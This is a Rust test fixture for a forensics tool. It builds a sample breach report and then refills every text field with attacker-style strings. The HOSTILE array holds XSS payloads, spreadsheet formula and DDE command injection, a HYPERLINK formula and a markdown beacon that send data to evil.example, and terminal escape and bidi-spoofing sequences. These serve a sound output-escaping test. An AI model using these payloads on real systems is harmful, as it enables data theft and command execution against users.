//! A whole answer made by hand: once benign, once with an attacker's text in every field that a log can fill.

#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    reason = "a test may stop where it stands"
)]

use irforensics::model::{
    Access, AccessClass, AcquisitionSummary, ActorRow, Attempt, AttributionRule, Bound, BulkAction, CategoryCount,
    ClassCount, Confidence, Conflict, ConflictKind, Coverage, DataHeld, EvidenceRef, Gap, Impact, Lead, LedgerRecord,
    LogCoverage, MintKind, Moment, OrgId, Outcome, OwnerRule, Persistence, QuarantineRow, Question, RecordKey,
    SCHEMA_VERSION, Shows, Side, Sight, Standing, Summary, Unresolved, Verdict, Window,
};
use std::collections::BTreeMap;

/// What attackers write into names, ids and user agents.
pub(crate) const HOSTILE: [&str; 24] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")",
    "  +cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31m",
    "\u{9b}31mC1",
    "id\u{202e}fdp.exe",
    "zero\u{200b}width\u{2028}line",
    "[click](javascript:alert(1))",
    "![beacon](http://evil.example/?id)",
    "| a | b |\n| --- | --- |",
    "line\r\nbreak\ttab",
    "'quoted",
    "\0nul",
    "```\n# heading\n```",
    "@everyone see #123 and www.evil.example",
    "{{ 7*7 }}{% include 'x' %}",
    "＝1+1",
    "a;=1+1;'b",
    "<!--",
    "</style></textarea><svg onload=alert(1)>",
    "&lt;b&gt; \\| \\` `tick` ",
];

/// The answer in its benign form.
pub(crate) fn benign() -> Impact {
    build(&mut |text| text.to_owned())
}

/// The same answer; every free text is one of [`HOSTILE`], in turn, kept distinct by the benign text behind it.
pub(crate) fn hostile() -> Impact {
    let mut turn = HOSTILE.iter().cycle();
    build(&mut |text| format!("{}{text}", turn.next().unwrap()))
}

type Wording<'a> = &'a mut dyn FnMut(&str) -> String;

fn build(say: Wording<'_>) -> Impact {
    let records = vec![
        ledger(say, "document", "doc-1", AccessClass::Read, Confidence::Confirmed, 1),
        ledger(say, "invoice", "inv-7", AccessClass::Deleted, Confidence::Unknown, 2),
        ledger(say, "invoice", "inv-8", AccessClass::Exported, Confidence::Confirmed, 2),
        ledger(say, "invoice", "inv-9", AccessClass::Exported, Confidence::Confirmed, 1),
    ];
    let mut accesses: Vec<Access> = (1..=6).map(|n| access(say, n)).collect();
    accesses.push(Access { standing: Standing::Support, ..access(say, 7) });
    accesses.push(Access { time: None, standing: Standing::Authorised, ..access(say, 8) });
    Impact {
        schema_version: SCHEMA_VERSION.to_owned(),
        tool_version: "0.1.0".to_owned(),
        question: question(say),
        summary: summary(say),
        records,
        accesses,
        attempts: (1..=2).map(|n| attempt(say, n)).collect(),
        bulk: vec![bulk(say, Bound::AtMost(140), true), bulk(say, Bound::Unbounded, false)],
        unresolved: vec![unresolved(say)],
        persistence: vec![persistence(say)],
        data: Some(data(say)),
        actors: (1..=4).map(|n| actor(say, n)).collect(),
        leads: vec![Lead {
            kind: "shared_ip".to_owned(),
            subject: say("203.0.113.7"),
            detail: say("also used by 2 actors of org-third"),
            count: 2,
            event_ids: vec![say("evt-70")],
        }],
        quarantine: vec![quarantine(say, "page 9", 9), quarantine(say, "page 10", 10)],
        conflicts: vec![Conflict {
            log_org: say("org-acme"),
            source_id: say("evt-3"),
            kind: ConflictKind::Versions,
            fields: vec![say("outcome")],
            places: vec![place(40), place(41)],
        }],
        not_seen: BTreeMap::from([(say("org-acmee"), vec![say("org-acme")])]),
        coverage: coverage(say),
        evidence_root: "9f2b6c0d4e8a1735c2d90e6b7a41f8530d9c2b7e6a5f41380c7d2e9b1a6f5403".to_owned(),
        acquisitions: vec![AcquisitionSummary {
            name: "acq-0001".to_owned(),
            source: say("files"),
            sealed_at: at(90, 0),
            seal_sha256: "9f2b6c0d4e8a1735c2d90e6b7a41f8530d9c2b7e6a5f41380c7d2e9b1a6f5403".to_owned(),
            pages: 21,
            bytes: 1_204_551,
        }],
    }
}

/// A moment that many hours and minutes after 2026-03-01.
fn at(hours: i64, minutes: i64) -> Moment {
    let midnight = Moment::parse_rfc3339("2026-03-01T00:00:00Z").unwrap();
    midnight.saturating_add((hours * 60 + minutes) * 60_000_000)
}

fn place(offset: u64) -> EvidenceRef {
    EvidenceRef { acquisition: 1, page: 3, offset, length: 512 }
}

fn org(say: Wording<'_>, id: &str) -> OrgId {
    OrgId::new(say(id)).unwrap()
}

fn question(say: Wording<'_>) -> Question {
    Question {
        attackers: vec![org(say, "org-mallory")],
        victims: vec![org(say, "org-acme")],
        aliases: BTreeMap::from([(say("org-acme"), vec![say("acme-legacy")])]),
        window: Window::new(Some(at(0, 0)), Some(at(96, 0))).unwrap(),
        as_of: at(90, 0),
        profile: "native".to_owned(),
    }
}

fn summary(say: Wording<'_>) -> Summary {
    let count = |class, confidence, records| ClassCount { class, confidence, records };
    let (sure, unknown) = (Confidence::Confirmed, Confidence::Unknown);
    Summary {
        verdict: Verdict::Accessed,
        exact: false,
        lower_bound_because: vec![
            say("1 record was touched whose owner nothing shows"),
            say("1 deletion ended with HTTP 504 and may have taken effect"),
        ],
        records: 4,
        headline: vec![
            count(AccessClass::Deleted, unknown, 1),
            count(AccessClass::Exported, sure, 2),
            count(AccessClass::Read, sure, 1),
        ],
        by_class: vec![
            count(AccessClass::Deleted, unknown, 1),
            count(AccessClass::Exported, sure, 2),
            count(AccessClass::Read, sure, 4),
        ],
        accesses: 6,
        other_standing: 2,
        attempts_on_victim: 3,
        attempts_owner_unknown: 8,
        unresolved: 1,
        bulk_scoped: 1,
        bulk_bound: Bound::AtMost(140),
        bulk_unscoped: 1,
        bulk_unscoped_bound: Bound::Unbounded,
        first_access: Some(at(2, 14)),
        last_access: Some(at(26, 40)),
        newest_event: Some(at(89, 55)),
    }
}

fn ledger(
    say: Wording<'_>,
    kind: &str,
    id: &str,
    class: AccessClass,
    confidence: Confidence,
    access_count: u64,
) -> LedgerRecord {
    LedgerRecord {
        record: RecordKey { record_type: kind.to_owned(), record_id: say(id) },
        owners: vec![say("org-acme")],
        class,
        confidence,
        classes: BTreeMap::from([(class, confidence), (AccessClass::Read, Confidence::Confirmed)]),
        first: Some(at(2, 14)),
        last: Some(at(26, 40)),
        access_count,
        repeats: 0,
        actor_ids: vec![say("user-mallory")],
        source_ips: vec![say("203.0.113.7")],
        event_ids: vec![say("evt-1"), say("evt-2")],
        evidence_refs: vec![place(0), place(512)],
        owner_rules: vec![OwnerRule::OwnLog],
        attribution_rules: vec![AttributionRule::Named],
        basis: vec![say("the event lies in the owner's own log")],
        categories: vec![say("billing")],
        subjects: vec![say("person-5")],
    }
}

fn persistence(say: Wording<'_>) -> Persistence {
    Persistence {
        time: Some(at(6, 1)),
        kind: MintKind::Credential,
        id: say("key-9"),
        org: OrgId::new(say("org-acme")).unwrap(),
        actor_id: say("user-mallory"),
        credential_id: say("key-1"),
        certain: true,
        uses: 3,
        last_use: Some(at(30, 0)),
        removed: None,
        event_ids: vec![say("evt-60")],
        evidence_refs: vec![place(100)],
    }
}

fn data(say: Wording<'_>) -> DataHeld {
    DataHeld {
        categories: vec![CategoryCount { category: say("billing"), minimum: 4, maximum: Bound::AtMost(146) }],
        records_without_category: 1,
        subjects_known: 3,
        subjects_minimum: 2,
        subjects_maximum: Bound::Unbounded,
        basis: say("catalogue"),
    }
}

fn access(say: Wording<'_>, n: u32) -> Access {
    let classes = [AccessClass::Read, AccessClass::Exported, AccessClass::Deleted];
    Access {
        time: Some(at(2 + i64::from(n) * 4, 14)),
        record: RecordKey { record_type: "invoice".to_owned(), record_id: say(&format!("inv-{n}")) },
        owners: vec![say("org-acme")],
        class: classes[usize::try_from(n).unwrap() % 3],
        confidence: Confidence::Confirmed,
        standing: Standing::Direct,
        actor_id: say("user-mallory"),
        other_actor_ids: Vec::new(),
        effective_actor_id: say("svc-billing"),
        credential_id: say("key-1"),
        session_id: say("sess-4"),
        source_ip: say("203.0.113.7"),
        outcome: Outcome::Success,
        http_status: Some(200),
        request_id: say("req-77"),
        side: Side::Both,
        repeats: 0,
        owner_rule: OwnerRule::OwnLog,
        attribution_rule: AttributionRule::Named,
        event_ids: vec![say(&format!("evt-{n}"))],
        evidence_refs: vec![place(u64::from(n) * 512)],
        basis: vec![say("the event lies in the owner's own log")],
    }
}

fn attempt(say: Wording<'_>, n: i64) -> Attempt {
    Attempt {
        time: Some(at(3, n)),
        record_type: say("invoice"),
        record_id: say("inv-40"),
        owners: vec![say("org-acme")],
        actor_id: say("user-mallory"),
        session_id: say("sess-2"),
        credential_id: say("key-1"),
        source_ip: say("203.0.113.7"),
        outcome: Outcome::Denied,
        http_status: Some(403),
        reason: say("not a member"),
        count: n,
        event_ids: vec![say("evt-30")],
        evidence_refs: vec![place(9000)],
    }
}

fn bulk(say: Wording<'_>, bound: Bound, scoped: bool) -> BulkAction {
    BulkAction {
        time: Some(at(4, 0)),
        kind: AccessClass::Exported,
        record_type: say("invoice"),
        scope: say("status = open"),
        returned_count: Some(140),
        total_count: None,
        page_of: String::new(),
        cursor: String::new(),
        ids_logged: 0,
        bound,
        scoped,
        actor_id: say("user-mallory"),
        credential_id: say("key-1"),
        session_id: say("sess-2"),
        source_ip: say("203.0.113.7"),
        standing: Standing::Direct,
        confidence: Confidence::Confirmed,
        event_ids: vec![say("evt-50")],
        evidence_refs: vec![place(7000)],
        basis: say("the log counts the rows and names none"),
    }
}

fn unresolved(say: Wording<'_>) -> Unresolved {
    Unresolved {
        record: RecordKey { record_type: say("folder"), record_id: say("fld-3") },
        first: Some(at(5, 0)),
        last: None,
        class: AccessClass::Read,
        access_count: 1,
        why: say("no event names its owner; a catalogue row would"),
    }
}

fn actor(say: Wording<'_>, n: u64) -> ActorRow {
    ActorRow {
        actor_id: say(&format!("user-{n}")),
        actor_type: say("user"),
        actor_org: say("org-mallory"),
        credential_id: say(&format!("key-{n}")),
        session_id: say("sess-4"),
        source_ip: say(&format!("203.0.113.{n}")),
        first: Some(at(2, 14)),
        last: Some(at(26, 40)),
        events: 9 - n,
        records: 5 - n,
        denied: n,
    }
}

fn quarantine(say: Wording<'_>, what: &str, offset: u64) -> QuarantineRow {
    QuarantineRow {
        file: "evidence/acq-0001/data/pages/000004.body".to_owned(),
        offset,
        length: 80,
        reason: say(&format!("duplicate key on {what}")),
        mentions: vec![say("org-acme")],
    }
}

fn coverage(say: Wording<'_>) -> Coverage {
    let [read, denied, guest] = ["ev-read", "ev-denied", "ev-guest"].map(&mut *say);
    let sight = |events, example: &String| Sight { events, example: Some(example.clone()) };
    let log = |org, events| LogCoverage {
        events_in_window: 0,
        org,
        events,
        first: Some(at(0, 1)),
        last: Some(at(89, 55)),
        walked: true,
        begins: None,
        shows: Shows {
            reads: sight(9_001, &read),
            refusals: sight(1, &denied),
            outsiders: sight(311, &guest),
            departed_known: 2,
            ..Shows::default()
        },
    };
    Coverage {
        window: Window::new(Some(at(0, 0)), Some(at(96, 0))).unwrap(),
        logs: vec![log(org(say, "org-acme"), 12_040), log(org(say, "org-mallory"), 2_311)],
        absent_logs: vec![org(say, "org-other")],
        gaps: vec![Gap {
            log_org: OrgId::new(say("org-acme")),
            from: Some(at(50, 0)),
            to: Some(at(61, 30)),
            reason: say("page 12 ended early and 5 retries failed"),
        }],
        raw: 20_112,
        distinct: 20_004,
        in_window: 14_351,
        by_attackers: 311,
        quarantined: 2,
        quarantined_mentions: 1,
        time_unknown: 1,
        zone_assumed: 4,
        conflicts: 1,
        conflicts_touching: 1,
        log_altered: Vec::new(),
        reads_proven: true,
        reads_visible: true,
        bulk_visible: false,
        denials_visible: true,
        ..Coverage::default()
    }
}
